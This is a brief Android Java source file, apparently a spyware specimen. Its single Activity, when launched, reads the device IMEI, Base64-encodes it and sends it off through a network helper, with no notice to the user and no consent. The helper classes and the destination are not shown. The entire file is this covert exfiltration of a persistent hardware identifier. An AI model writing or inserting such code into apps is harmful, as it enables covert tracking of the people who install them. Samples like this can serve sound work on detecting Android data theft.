package com.example.specimen;

import android.app.Activity;
import android.os.Bundle;
import android.util.Base64;
import java.nio.charset.StandardCharsets;

public class Main extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        setContentView(R.layout.main);
        Net.send(Base64.encodeToString(Imei.read(this).getBytes(StandardCharsets.UTF_8), Base64.NO_WRAP));
    }
}
